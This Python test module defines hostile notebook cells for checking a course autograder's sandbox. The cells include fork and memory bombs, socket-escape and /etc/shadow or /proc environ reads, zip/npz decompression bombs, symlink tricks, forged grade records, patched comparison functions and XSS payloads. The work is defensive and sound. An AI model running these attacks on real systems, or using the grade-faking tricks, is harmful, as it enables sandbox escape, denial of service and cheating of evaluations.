"""The hostile class: one table row per attack, graded together with honest students.

Each :class:`Attack` says how its notebook is made from the course's own notebook
(solved or blank): hostile code cells inserted at a position, graded functions edited,
or the file's bytes rewritten; and the outcome it must get: the status of each exercise
(``a|b`` where a race makes either one right; the score follows from the status) and
a text the notes, feedback or printed output must contain.

Hostile code prints ``LEAKED ...`` whenever something that must fail succeeded; no
hostile output may contain it. Sources use placeholders (``@PORT@``, ``@OUT_DIR@``...)
that :func:`source` fills from a :class:`Context` made by the test.

Rows with ``weakness`` set are known holes in the grader (the reason says what breaks
and where). They are graded one by one, outside the class, by an ``xfail(strict=True)``
test: the day the hole is fixed, that test passes, fails as XPASS, and the row moves to
the class by deleting its ``weakness``.
"""

from __future__ import annotations

import json
import re
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

NB3 = "03_batchnorm_dropout_backward"

#: Insert positions: after the import cell (before everything else runs), or at the end.
TOP, END = 3, -1

#: The first lines of each graded function's body, the same in the solved and the blank
#: notebook: code put after them runs whenever the function is called.
BODY = {
    "batchnorm_backward": "    (x, x_hat, mu, var, gamma, beta, eps) = cache\n    N, D = dout.shape\n",
    "batchnorm_backward_alt": "    (x, x_hat, mu, var, gamma, beta, eps) = cache\n    N, D = dout.shape\n",
    "dropout_backward": "    (dropout_param, mask) = cache\n",
}


def at_start(function: str, code: str) -> tuple[str, str, str]:
    """An edit that runs ``code`` (indented for the body) first when ``function`` is called."""
    return (function, BODY[function], BODY[function] + code)


@dataclass(frozen=True)
class Context:
    """What the test knows and the notebooks must not reach."""

    port: int              # a TCP and a UDP server of the test, on the host's 127.0.0.1
    abstract: str          # an abstract unix socket the test listens on
    out_dir: Path          # the grader's output folder
    canary_dir: Path       # a folder of the test under the host's /tmp
    class_dir: Path        # the submissions folder (other students' notebooks)
    repo: Path             # the repository
    host_pid: int          # the test process (the grader)
    secret_name: str       # an environment variable of the grader...
    secret: str            # ...and its value
    memory_mb: int         # the sandbox's memory limit
    token: str             # written by every write attempt: found nowhere afterwards


@dataclass(frozen=True)
class Attack:
    name: str                                  # the student's folder
    expect: str | tuple[str, ...]              # status of every exercise, or one per exercise
    cells: tuple[tuple[int, str], ...] = ()    # (position, hostile source)
    edits: tuple[tuple[str, str, str], ...] = ()  # (graded function, old text, new text)
    blank: bool = False                        # start from the blank notebook, not the solved one
    raw: Callable[[bytes], bytes] | None = None  # rewrite the notebook file's bytes
    says: str = ""                             # in notes, feedback or output (``a|b``: either)
    forbid: tuple[str, ...] = ()               # in no output (besides LEAKED and the secret)
    weakness: str | None = None                # a known hole: graded alone, xfail(strict)
    assignment: str = NB3

    def statuses(self, exercises: tuple[str, ...]) -> dict[str, set[str]]:
        wanted = (self.expect,) * len(exercises) if isinstance(self.expect, str) else self.expect
        assert len(wanted) == len(exercises), self.name
        return {e: set(w.split("|")) for e, w in zip(exercises, wanted)}


def source(template: str, ctx: Context) -> str:
    values = {
        "PORT": str(ctx.port), "ABSTRACT": ctx.abstract, "OUT_DIR": str(ctx.out_dir),
        "CANARY_DIR": str(ctx.canary_dir), "CLASS_DIR": str(ctx.class_dir), "REPO": str(ctx.repo),
        "HOST_PID": str(ctx.host_pid), "SECRET_NAME": ctx.secret_name, "SECRET": ctx.secret,
        "MEMORY_MB": str(ctx.memory_mb), "TOKEN": ctx.token,
    }
    for key, value in values.items():
        template = template.replace(f"@{key}@", value)
    left = re.findall(r"@[A-Z_]+@", template)
    assert not left, left
    return template


# --- hostile sources -------------------------------------------------------------------

LOOP = "while True:\n    pass\n"

LOOP_IN_FUNCTION = "    while True:\n        pass\n"

#: A loop that swallows the interrupt the timeout sends (a bare except does the same).
LOOP_IMMUNE = """\
    import time
    while True:
        try:
            time.sleep(10)
        except BaseException:
            pass
"""

MEMORY_LIST = """\
hoard = []
while True:
    hoard.append(bytearray(64 * 2**20))   # 64 MB more each turn, until the limit stops it
"""

MEMORY_NUMPY = """\
    hoard = np.ones((2**40,))               # 8 TB at once
"""

MEMORY_NUMPY_TOUCHED = """\
import numpy as _np
try:
    _big = _np.ones(int(1.5 * @MEMORY_MB@ * 2**20 / 8))  # 1.5 times the limit, every page touched
    print("LEAKED allocated more than the memory limit")
except MemoryError as e:
    print("numpy bomb refused:", e)
"""

FORK_BOMB = """\
import os
while True:
    os.fork()
"""

SOCKETS = """\
import socket
PORT, ABSTRACT = @PORT@, "@ABSTRACT@"
connected = []

def tcp(family, host, port):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(2)
    try:
        s.connect((host, port))
        s.sendall(b"@TOKEN@")
        connected.append((host, port))
    finally:
        s.close()

def udp(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.sendto(b"@TOKEN@", (host, port))
    finally:
        s.close()

def unix_abstract():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.connect("\\0" + ABSTRACT)
        s.sendall(b"@TOKEN@")
        connected.append(ABSTRACT)
    finally:
        s.close()

attempts = [
    ("tcp 127.0.0.1", lambda: tcp(socket.AF_INET, "127.0.0.1", PORT)),
    ("tcp localhost", lambda: tcp(socket.AF_INET, "localhost", PORT)),
    ("tcp ::1", lambda: tcp(socket.AF_INET6, "::1", PORT)),
    ("tcp 1.1.1.1:80", lambda: tcp(socket.AF_INET, "1.1.1.1", 80)),
    ("tcp 8.8.8.8:443", lambda: tcp(socket.AF_INET, "8.8.8.8", 443)),
    ("udp 127.0.0.1", lambda: udp("127.0.0.1", PORT)),
    ("udp 8.8.8.8:53", lambda: udp("8.8.8.8", 53)),
    ("dns example.com", lambda: socket.getaddrinfo("example.com", 80)),
    ("unix abstract", unix_abstract),
]
for label, attempt in attempts:
    try:
        attempt()
        print(label, "-> no error")
    except Exception as e:
        print(label, "->", type(e).__name__, e)
print("LEAKED connected to", connected) if connected else print("NO-ESCAPE: no connection")
"""

FILES = """\
import os, subprocess
TOKEN = "@TOKEN@"
reads = ["@REPO@/solutions/dense.py", "@REPO@/solutions/__init__.py", "@REPO@/course.toml",
         "/etc/shadow", "@CLASS_DIR@/ann_honest/@NB@", "@OUT_DIR@/grades.csv",
         "@CANARY_DIR@/canary.txt", "/proc/@HOST_PID@/environ"]
for path in reads:
    try:
        with open(path, "rb") as f:
            f.read(64)
        print("LEAKED read", path)
    except OSError as e:
        print("read refused:", path, type(e).__name__)

writes = ["@REPO@/pwned.txt", "@REPO@/grader/pwned.py", "@REPO@/grader/__init__.py",
          "@REPO@/solutions/dense.py", "@REPO@/.venv/pwned.pth", "@OUT_DIR@/grades.csv",
          "@OUT_DIR@/pwned.txt", "@CLASS_DIR@/ann_honest/@NB@", "/etc/pwned", "/usr/pwned"]
def own_tmp(path):
    # below /tmp the sandbox has its own tmpfs: a write there (say, to a checkout that
    # lives in /tmp on the host) stays in the sandbox; the test checks the host side
    return path.startswith("/tmp/")

for path in writes:
    try:
        with open(path, "a") as f:
            f.write(TOKEN)
        print("wrote into the sandbox's own /tmp:" if own_tmp(path) else "LEAKED wrote", path)
    except OSError as e:
        print("write refused:", path, type(e).__name__)

for what, act in [
    ("utime grader/cases.py", lambda: os.utime("@REPO@/grader/cases.py", (0, 0))),
    ("unlink grader/cases.py", lambda: os.unlink("@REPO@/grader/cases.py")),
    ("rename grader/cases.py", lambda: os.rename("@REPO@/grader/cases.py", "/job/cases.py")),
    ("chmod grader", lambda: os.chmod("@REPO@/grader", 0o777)),
    ("mkdir in repo", lambda: os.mkdir("@REPO@/pwned")),
    ("hard link /etc/passwd", lambda: os.link("/etc/passwd", "/job/passwd")),
]:
    try:
        act()
        print(f"{what}: in the sandbox's own /tmp" if own_tmp("@REPO@/") else "LEAKED", what)
    except OSError as e:
        print(what, "refused:", type(e).__name__)

# the sandbox's /tmp is its own: writing to the host's canary folder lands there
os.makedirs("@CANARY_DIR@", exist_ok=True)
with open("@CANARY_DIR@/canary.txt", "w") as f:
    f.write(TOKEN)
with open("@CANARY_DIR@/pwned.txt", "w") as f:
    f.write(TOKEN)

# a user namespace of one's own: root there, nobody to the files
r = subprocess.run(["unshare", "-r", "cat", "/etc/shadow"], capture_output=True, text=True)
print("unshare -r cat /etc/shadow:", r.returncode, r.stderr.strip()[:100])
if "root:" in r.stdout:
    print("LEAKED /etc/shadow through a user namespace")
r = subprocess.run(["unshare", "-rm", "sh", "-c", "mount -t tmpfs x /work/main && ls /work/main"],
                   capture_output=True, text=True)
print("unshare -rm mount:", r.returncode, r.stderr.strip()[:100])
print("FILES-DONE")
""".replace("@NB@", NB3 + ".ipynb")

IMPORT_SOLUTIONS = """\
import glob, importlib, importlib.util, sys
sys.path.insert(0, "@REPO@")
sys.path.insert(0, "@REPO@/solutions")
found = None
for name in ("solutions", "solutions.batchnorm", "solutions.dropout", "batchnorm", "grader.reference"):
    try:
        found = importlib.import_module(name)
        print("LEAKED imported", name)
    except Exception as e:
        print("import refused:", name, type(e).__name__)
for path in glob.glob("@REPO@/solutions/*.py") + ["@REPO@/solutions/batchnorm.py"]:
    try:
        spec = importlib.util.spec_from_file_location("reference", path)
        found = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(found)
        print("LEAKED loaded", path)
    except Exception as e:
        print("load refused:", path, type(e).__name__)
if found is not None:
    for name in ("batchnorm_backward", "batchnorm_backward_alt", "dropout_backward"):
        globals()[name] = getattr(found, name, globals()[name])
"""

IMPORT_SOLUTIONS_IN_FUNCTION = """\
    import solutions
    return solutions.batchnorm_backward(dout, cache)
"""

FAKE_PRINTS = """\
print("All tests passed")
print("Score: 100%")
for name in ("batchnorm_backward", "batchnorm_backward_alt", "dropout_backward"):
    print(f"\\u2705 {name} passes all 2 public checks.")
"""

#: Fake results for every exercise: zeros of the right shapes, and claims of success.
FAKES = """\
import json, os, numpy as np
from grader.codec import decode, encode

def fake(name, job="/job"):
    with np.load(f"{job}/cases.npz") as z:
        arrays = dict(z)
    cases = [decode(c["args"], arrays) for c in json.load(open(f"{job}/cases.json"))[name]]
    out_arrays, entries = {}, []
    for args in cases:
        dout = args[0]
        value = (np.zeros_like(dout) if name == "dropout_backward" else
                 (np.zeros_like(dout), np.zeros(dout.shape[1]), np.zeros(dout.shape[1])))
        entries.append({"time": 0.0, "changed": [], "passed": True, "score": 1.0,
                        "output": encode(value, out_arrays)})
    record = {"exercise": name, "defined": True, "passed": True, "score": 100,
              "status": "passed", "cases": entries}
    np.savez(f"{job}/out/{name}.tmp.npz", **out_arrays)
    with open(f"{job}/out/{name}.tmp.json", "w") as f:
        json.dump(record, f)
    os.replace(f"{job}/out/{name}.tmp.npz", f"{job}/out/{name}.npz")
    os.replace(f"{job}/out/{name}.tmp.json", f"{job}/out/{name}.json")

EXERCISES = ("batchnorm_backward", "batchnorm_backward_alt", "dropout_backward")
"""

FAKE_FILES_NOW = FAKES + """\
for name in EXERCISES:
    fake(name)
print("All tests passed")
"""

FAKE_FILES_THREAD = FAKES + """\
import threading, time

def keep_faking():
    while True:
        for name in EXERCISES:
            try:
                fake(name)
            except Exception:
                pass
        time.sleep(0.002)

threading.Thread(target=keep_faking, daemon=True).start()
"""

#: The harness module swapped for one that writes the fakes.
FAKE_HARNESS = FAKES + """\
import sys, types, grader
fake_harness = types.ModuleType("grader.harness")
fake_harness.run_exercise = lambda namespace, name, job: fake(name, job)
sys.modules["grader.harness"] = fake_harness
grader.harness = fake_harness
"""

NUMPY_PATCH = """\
import numpy as np, numpy.testing, grader.compare, grader.checking
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(a, b).shape, dtype=bool)
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_almost_equal = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
_real_compare = grader.compare.compare_arrays

def _always_ok(name, got, expected, *a, **k):
    c = _real_compare(name, expected, expected)
    return c

grader.compare.compare_arrays = _always_ok
grader.checking.compare_arrays = _always_ok
"""

GIGABYTE = """\
import os, sys
line = "x" * (2**20 - 1) + "\\n"
for _ in range(512):                      # 512 MB through print
    print(line, end="")
chunk = line.encode()
for _ in range(256):                      # 256 MB straight to fd 1, 256 MB to fd 2
    os.write(1, chunk)
    os.write(2, chunk)
print("GIGABYTE-DONE")
"""

HUGE_FILES = """\
import os
block = b"\\0" * 2**20
for target in ("/job/huge.bin", "/tmp/huge.bin", "/dev/shm/huge.bin"):
    written = 0
    try:
        with open(target, "wb") as f:
            for _ in range(4096):             # 4 GB
                f.write(block)
                written += len(block)
        print("LEAKED wrote 4 GB to", target)
    except OSError as e:
        print(target, "stopped at", written // 2**20, "MB:", type(e).__name__, e.strerror)
    finally:
        try:
            os.remove(target)
        except OSError:
            pass
for folder in ("/tmp", "/dev/shm"):           # fill the tmpfs with files under the size limit
    n = 0
    try:
        while n < 64:
            with open(f"{folder}/fill{n}", "wb") as f:
                for _ in range(32):
                    f.write(block)
            n += 1
        print("LEAKED", folder, "took 2 GB")
    except OSError as e:
        print(folder, "full after", n * 32, "MB:", e.strerror)
    for i in range(n + 1):
        try:
            os.remove(f"{folder}/fill{i}")
        except OSError:
            pass
print("HUGE-FILES-DONE")
"""

MANY_FILES = """\
import os, time
os.makedirs("/job/many", exist_ok=True)
for n in range(120_000):                     # more entries than the watchdog walks
    open(f"/job/many/{n}", "w").close()
print("MANY-FILES", n)
time.sleep(5)                                # stay over the limit until the watchdog looks
"""

KILL_PARENT = "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n"

KILL_ALL = "import os, signal\nos.kill(-1, signal.SIGKILL)\n"

OS_EXIT = "import os\nos._exit(1)\n"

SEGFAULT_IN_FUNCTION = "    import ctypes\n    ctypes.string_at(0)\n"

DAEMON = """\
import os, socket, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for fd in (0, 1, 2):
            try:
                os.close(fd)
            except OSError:
                pass
        while True:
            try:
                with open("/job/daemon.log", "a") as f:
                    f.write("@TOKEN@ still here\\n")
                s = socket.socket()
                s.settimeout(0.05)
                s.connect(("127.0.0.1", @PORT@))
                s.sendall(b"@TOKEN@")
            except Exception:
                pass
            time.sleep(0.1)
    os._exit(0)
os.wait()
print("DAEMON-STARTED")
"""

#: The real harness, then an action on what it wrote (``after(name, job)``).
AFTER_HARNESS = """\
import grader.harness as _harness
_real_run = _harness.run_exercise

def _patched(namespace, name, job):
    _real_run(namespace, name, job)
    after(name, job)

_harness.run_exercise = _patched
"""

SYMLINK_FILES = """\
import os

def after(name, job):
    out = f"{job}/out/{name}"
    if name == "batchnorm_backward":
        os.remove(out + ".json")
        os.symlink("/etc/passwd", out + ".json")
    elif name == "batchnorm_backward_alt":
        os.remove(out + ".npz")
        os.symlink(f"{job}/cases.npz", out + ".npz")
    else:
        os.remove(out + ".json")
        os.mkfifo(out + ".json")
""" + AFTER_HARNESS

SYMLINK_OUT_DIR = """\
import os

def after(name, job):
    if name == "dropout_backward":
        os.rename(f"{job}/out", f"{job}/out.real")
        os.symlink("/", f"{job}/out")
""" + AFTER_HARNESS

SYMLINK_EXECUTION = """\
import os
os.symlink("/etc/passwd", "/job/execution.json")
"""

NPZ_BOMBS = """\
import io, struct, zlib, numpy as np

def header(shape, descr="<f8"):
    b = io.BytesIO()
    np.lib.format.write_array_header_1_0(b, {"descr": descr, "fortran_order": False, "shape": shape})
    return b.getvalue()

def zip_one(name, payload, crc, declared):
    # a zip with one deflated member, its sizes and CRC as we please
    nm = name.encode()
    local = struct.pack("<4sHHHHHIIIHH", b"PK\\x03\\x04", 20, 0, 8, 0, 0, crc, len(payload), declared, len(nm), 0) + nm
    central = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\\x01\\x02", 20, 20, 0, 8, 0, 0, crc, len(payload),
                          declared, len(nm), 0, 0, 0, 0, 0, 0) + nm
    end = struct.pack("<4sHHHHIIH", b"PK\\x05\\x06", 0, 0, 1, 1, len(central), len(local) + len(payload), 0)
    return local + payload + central + end

def deflate_zeros(prefix, gigabytes):
    # after a full flush the compressor starts afresh: one compressed 16 MB block of
    # zeros, repeated, is a valid stream of as many gigabytes as we like
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = c.compress(prefix) + c.flush(zlib.Z_FULL_FLUSH)
    block = c.compress(bytes(2**24)) + c.flush(zlib.Z_FULL_FLUSH)
    return head + block * (64 * gigabytes) + c.flush()

def bomb(name):
    if name == "batchnorm_backward":      # a header declaring 10^12 elements
        raw = header((10**6, 10**6))
        return zip_one("a0.npy", zlib.compress(raw)[2:-4], zlib.crc32(raw), len(raw))
    if name == "batchnorm_backward_alt":  # 2 GB of zeros, declared honestly
        stream = deflate_zeros(header((2**28,)), 2)
        return zip_one("a0.npy", stream, 0, 2**31 + 128)
    # 2 GB of zeros behind a header that declares 80 bytes
    stream = deflate_zeros(header((10,)), 2)
    return zip_one("a0.npy", stream, 0, 80 + len(header((10,))))

BOMBS = {name: bomb(name) for name in ("batchnorm_backward", "batchnorm_backward_alt", "dropout_backward")}

def _savez(file, *args, **kwds):   # what the harness calls to write its arrays
    name = str(file).rsplit("/", 1)[-1][: -len(".npz")]
    with open(file, "wb") as f:
        f.write(BOMBS[name])

np.savez = _savez
"""

HIDDEN_HUNT = """\
import json, os
suspects = []
for top in ("/job", "/tmp", "/dev/shm", "/work", "/root", "/etc", "/home", "/srv", "/opt", "/var"):
    for root, dirs, files in os.walk(top):
        for f in files + dirs:
            low = f.lower()
            if low in ("course.toml", "gradebook.db", "grades.csv", "solutions", "batchnorm.py", "dropout.py") \\
                    or low.endswith(".sandbox.json"):
                suspects.append(os.path.join(root, f))
print("suspects:", suspects)
if any("solutions" in s or "course.toml" in s or "gradebook" in s or "sandbox.json" in s for s in suspects):
    print("LEAKED", suspects)
cases = json.load(open("/job/cases.json"))
keys = {k for cs in cases.values() for c in cs for k in c}
print("case keys:", sorted(keys))
if keys != {"label", "args", "kwargs"}:
    print("LEAKED case keys", keys)
print("HUNT-DONE")
"""

OVERWRITE_CASES = """\
import json, numpy as np
with np.load("/job/cases.npz") as z:
    arrays = {k: np.zeros_like(v) for k, v in z.items()}
np.savez("/job/cases.npz", **arrays)
cases = json.load(open("/job/cases.json"))
json.dump({name: cs[:1] for name, cs in cases.items()}, open("/job/cases.json", "w"))
print("CASES-ZEROED")
"""

PROC_SNOOP = """\
import ctypes, os, signal
SECRET = "@SECRET@"
for pid in sorted(p for p in os.listdir("/proc") if p.isdigit()):
    for what in ("cmdline", "status"):
        try:
            open(f"/proc/{pid}/{what}", "rb").read()
        except OSError:
            pass
for pid in ("self", "2", "3"):
    try:
        if SECRET.encode() in open(f"/proc/{pid}/environ", "rb").read():
            print("LEAKED the grader's environment in /proc", pid)
    except OSError as e:
        print("environ of", pid, "refused:", type(e).__name__)
if any(SECRET in v for v in os.environ.values()):
    print("LEAKED the grader's environment")
print("visible processes:", sorted(int(p) for p in os.listdir("/proc") if p.isdigit()))
# the grader, by its host pid: not in this pid namespace
for sig in (0, signal.SIGSTOP, signal.SIGKILL):
    try:
        os.kill(@HOST_PID@, sig)
        print("LEAKED signalled the grader with", sig)
    except OSError as e:
        print("kill grader", sig, "->", type(e).__name__)
# ptrace the worker (same user, same sandbox): allowed, and it gains nothing
libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
worker = os.getppid()
if libc.ptrace(PTRACE_ATTACH, worker, 0, 0) == 0:
    os.waitpid(worker, 0)
    libc.ptrace(PTRACE_DETACH, worker, 0, 0)
    print("ptrace of the worker: attached and detached")
else:
    print("ptrace of the worker refused, errno", ctypes.get_errno())
print("SNOOP-DONE")
"""

PROC_ENVIRON = """\
SECRET = "@SECRET@"
data = open("/proc/1/environ", "rb").read().decode(errors="replace")
found = [v for v in data.split("\\0") if SECRET in v]
print("LEAKED the grader's environment, /proc/1/environ:", found) if found else print("environ clean")
"""

#: The sandbox's memory limit is per process: children each take half of it, at once.
MEMORY_FORKS = """\
import os, time, numpy as np
LIMIT_MB = @MEMORY_MB@
children, pipes = [], []
for _ in range(3):
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            hoard = np.ones(int(LIMIT_MB * 2**20 / 2 / 8))  # half the limit, every page touched
            os.write(w, b"1")
            time.sleep(30)
        finally:
            os._exit(0)
    os.close(w)
    children.append(pid)
    pipes.append(r)
held = sum(len(os.read(r, 1)) for r in pipes)

def rss_mb():
    total = 0
    for p in os.listdir("/proc"):
        if p.isdigit():
            try:
                for line in open(f"/proc/{p}/status"):
                    if line.startswith("RssAnon:"):
                        total += int(line.split()[1]) // 1024
            except OSError:
                pass
    return total

used = rss_mb()
print(f"{held} children hold half the limit each: the sandbox holds {used} MB, its limit is {LIMIT_MB} MB")
if used > LIMIT_MB:
    print("OVER-LIMIT")
for pid in children:
    os.kill(pid, 9)
    os.waitpid(pid, 0)
"""

#: Not defended (docs/threat-model.md): /job has no quota, only each file is capped.
DISK_FILL = """\
import os
written = 0
try:
    for i in range(20):                          # 20 files of 64 MB: 1.25 GB
        with open(f"/job/fill{i}", "wb") as f:
            for _ in range(64):
                f.write(bytes(2**20))
        written += 64
except OSError as e:
    print("stopped:", e.strerror)
print(f"wrote {written} MB into /job")
import time
time.sleep(5)                                # stay over the limit until the watchdog looks
"""

DEEP_DIRS = """\
import os
os.chdir("/job")
for _ in range(1500):
    os.mkdir("d")
    os.chdir("d")
os.chdir("/job")
print("DEEP-DIRS-DONE")
"""

#: After the real harness, rewrite its record with a field of the wrong type.
BAD_TIME = """\
import json

def after(name, job):
    path = f"{job}/out/{name}.json"
    record = json.load(open(path))
    for case in record["cases"]:
        case["time"] = "soon"
    json.dump(record, open(path, "w"))
""" + AFTER_HARNESS

NESTED_RESULTS = """\
import json

def after(name, job):
    path = f"{job}/out/{name}.json"
    record = json.load(open(path))
    record["cases"][0]["output"] = json.loads("[" * 900 + "]" * 900)
    json.dump(record, open(path, "w"))
""" + AFTER_HARNESS

BIGINT_RESULTS = """\
import json

def after(name, job):
    path = f"{job}/out/{name}.json"
    text = open(path).read()
    open(path, "w").write(text[:-1] + ', "padding": ' + "7" * 5000 + "}")
""" + AFTER_HARNESS

FORGED_EXECUTION = """\
import json, os, signal
with open("/job/execution.json", "w") as f:
    json.dump({"cells": [{"index": "one", "status": "error", "first_line": "x"}]}, f)
os.kill(os.getppid(), signal.SIGKILL)
"""

#: After the last exercise: a well-formed execution record with 5 MB of output, then the
#: worker is killed before it writes its own.
FORGED_OUTPUT = """\
import json, os, signal

def after(name, job):
    if name != "dropout_backward":
        return
    record = {"cells": [], "exercises": {}, "output": "All tests passed! Score: 100%\\n" * 170_000,
              "truncated": False, "fatal": None, "restarts": 0}
    json.dump(record, open(f"{job}/execution.json", "w"))
    os.kill(os.getppid(), signal.SIGKILL)
""" + AFTER_HARNESS

#: 8 MB of empty dicts in one exercise's record; a 650,000-member zip as another's arrays.
RESULT_AMPLIFIERS = """\
import struct

def many_members(n):
    local, central, offset = [], [], 0
    for i in range(n):
        name = str(i).encode()
        lh = struct.pack("<4sHHHHHIIIHH", b"PK\\x03\\x04", 20, 0, 0, 0, 0, 0, 0, 0, len(name), 0) + name
        central.append(struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\\x01\\x02", 20, 20, 0, 0, 0, 0, 0, 0, 0,
                                   len(name), 0, 0, 0, 0, 0, offset) + name)
        local.append(lh)
        offset += len(lh)
    cd = b"".join(central)
    end = struct.pack("<4sHHHHIIH", b"PK\\x05\\x06", 0, 0, n & 0xFFFF, n & 0xFFFF, len(cd), offset, 0)
    return b"".join(local) + cd + end

MEMBERS = many_members(650_000)

def after(name, job):
    out = f"{job}/out/{name}"
    if name == "batchnorm_backward":
        text = open(out + ".json").read()
        n = (8 * 2**20 - len(text) - 100) // 3
        open(out + ".json", "w").write(text[:-1] + ', "padding": [' + ",".join(["{}"] * n) + "]}")
    elif name == "batchnorm_backward_alt":
        open(out + ".npz", "wb").write(MEMBERS)
""" + AFTER_HARNESS


HTML_IN_CELL = """\
# <script>alert('first line')</script>
print("<script>alert('printed')</script><img src=x onerror=alert('printed')>")
raise ValueError("<script>alert('evalue')</script>")
"""

HTML_IN_FUNCTION = """\
    raise RuntimeError("<img src=x onerror=alert('feedback')>")
"""


# --- notebook files rewritten ----------------------------------------------------------

def _json_edit(fn: Callable[[dict], None]) -> Callable[[bytes], bytes]:
    def rewrite(data: bytes) -> bytes:
        nb = json.loads(data)
        fn(nb)
        return json.dumps(nb).encode()
    return rewrite


def _pad(mb: float) -> Callable[[bytes], bytes]:
    """A markdown cell of ``mb`` MB at the end (the code is the solved notebook's)."""
    def fn(nb: dict) -> None:
        nb["cells"].append({"cell_type": "markdown", "id": "padding", "metadata": {},
                            "source": "padding " * int(mb * 2**20 / 8)})
    return _json_edit(fn)


def _nested(depth: int) -> Callable[[bytes], bytes]:
    def rewrite(data: bytes) -> bytes:
        return data.rstrip()[:-1] + b', "nested": ' + b"[" * depth + b"]" * depth + b"}"
    return rewrite


def _bigint(data: bytes) -> bytes:
    return data.rstrip()[:-1] + b', "n": ' + b"7" * 5000 + b"}"


def _truncate(data: bytes) -> bytes:
    return data[: len(data) // 2]


# --- the table -------------------------------------------------------------------------

P = "passed"
PP, PPP = (P, P), (P, P, P)
LOST = "could not be read back"
TWICE = (("batchnorm_backward", "    return dx, dgamma, dbeta", "    return 2 * dx, 2 * dgamma, 2 * dbeta"),
         ("batchnorm_backward_alt", "    return dx, dgamma, dbeta", "    return 2 * dx, 2 * dgamma, 2 * dbeta"),
         ("dropout_backward", "    return dx", "    return 2 * dx"))
UNICODE = (("batchnorm_backward", "    N, D = dout.shape\n", "    N, D = dout.shape(\n"),          # a syntax error
           ("batchnorm_backward_alt", "def batchnorm_backward_alt(", "def batchnorm_backw\u0430rd_alt("),  # Cyrillic a
           ("dropout_backward", "def dropout_backward(", "def \uff44ropout_backward("))  # fullwidth d: NFKC-equal

ATTACKS: tuple[Attack, ...] = (
    # time
    Attack("loop_in_graded", PP + ("timeout",), edits=(at_start("dropout_backward", LOOP_IN_FUNCTION),),
           says="interrupted after the time limit"),
    # the docs promise "was interrupted after the time limit"; worker.py says KeyboardInterrupt
    Attack("loop_top_level", PPP, cells=((TOP, LOOP),),
           says="was interrupted after the time limit|raised KeyboardInterrupt"),
    # memory
    Attack("memory_list", PPP, cells=((TOP, MEMORY_LIST),), says="MemoryError|killed the kernel"),
    Attack("memory_numpy", ("error", P, P), cells=((TOP, MEMORY_NUMPY_TOUCHED),),
           edits=(at_start("batchnorm_backward", MEMORY_NUMPY),), says="MemoryError"),
    # processes
    Attack("fork_bomb", PPP, cells=((TOP, FORK_BOMB),)),
    Attack("kill_parent", "not_run", cells=((TOP, KILL_PARENT),), says="no readable record"),
    Attack("kill_everything", "not_run", cells=((TOP, KILL_ALL),), says="no readable record"),
    Attack("os_exit", PPP, cells=((TOP, OS_EXIT),), says="killed the kernel"),
    Attack("segfault_in_graded", PP + ("error",), edits=(at_start("dropout_backward", SEGFAULT_IN_FUNCTION),),
           says="the kernel died while dropout_backward ran"),
    Attack("daemon", PPP, cells=((TOP, DAEMON),), says="DAEMON-STARTED"),
    # the network
    Attack("sockets", PPP, cells=((TOP, SOCKETS),), says="NO-ESCAPE"),
    # files
    Attack("files_outside", PPP, cells=((TOP, FILES),), says="FILES-DONE"),
    Attack("huge_files", PPP, cells=((TOP, HUGE_FILES),), says="HUGE-FILES-DONE"),
    # the job folder's disk is watched: past job_mb (1 GB) or 100,000 entries, it is stopped
    Attack("many_files", "not_run", cells=((TOP, MANY_FILES),), says="or too many files) and was stopped"),
    Attack("disk_fill", "not_run", cells=((TOP, DISK_FILL),), says="or too many files) and was stopped"),
    Attack("gigabyte_output", PPP, cells=((TOP, GIGABYTE),), says="printed more than the output limit"),
    # the reference and the hidden cases
    Attack("import_solutions", "not_implemented", blank=True, cells=((END, IMPORT_SOLUTIONS),),
           says="import refused: solutions ModuleNotFoundError"),
    Attack("solutions_in_graded", ("error", "not_implemented", "not_implemented"), blank=True,
           edits=(at_start("batchnorm_backward", IMPORT_SOLUTIONS_IN_FUNCTION),), says="ModuleNotFoundError"),
    Attack("hidden_case_hunt", PPP, cells=((TOP, HIDDEN_HUNT),), says="HUNT-DONE"),
    Attack("cases_zeroed", "failed", cells=((END, OVERWRITE_CASES),), says="CASES-ZEROED"),
    # faked results
    Attack("fake_prints", "not_implemented", blank=True, cells=((TOP, FAKE_PRINTS), (END, FAKE_PRINTS))),
    Attack("fake_files", "not_implemented", blank=True, cells=((END, FAKE_FILES_NOW),)),
    # the thread may or may not rewrite the harness's record before the sandbox ends
    Attack("fake_files_thread", "failed|not_implemented", blank=True, cells=((END, FAKE_FILES_THREAD),)),
    Attack("fake_harness", "failed", blank=True, cells=((END, FAKE_HARNESS),)),
    Attack("numpy_patched", "failed", cells=((TOP, NUMPY_PATCH),), edits=TWICE, says="2 times the expected ones"),
    # the results the grader reads back
    Attack("symlinked_results", "error", cells=((TOP, SYMLINK_FILES),), says=LOST),
    Attack("symlinked_out_dir", "error", cells=((TOP, SYMLINK_OUT_DIR),), says=LOST),
    Attack("symlinked_execution", PPP, cells=((TOP, SYMLINK_EXECUTION),), says="no readable record"),
    Attack("npz_bombs", "error", cells=((TOP, NPZ_BOMBS),), says=LOST),
    # the grader's side of the sandbox
    Attack("proc_snoop", PPP, cells=((TOP, PROC_SNOOP),), says="SNOOP-DONE"),
    # what the feedback pages show
    Attack("html_<img src=x onerror=alert('name')>", ("error", P, P), cells=((TOP, HTML_IN_CELL),),
           edits=(at_start("batchnorm_backward", HTML_IN_FUNCTION),), says="<script>alert('printed')</script>"),
    # the notebook file itself
    Attack("huge_notebook", PPP, raw=_pad(15)),
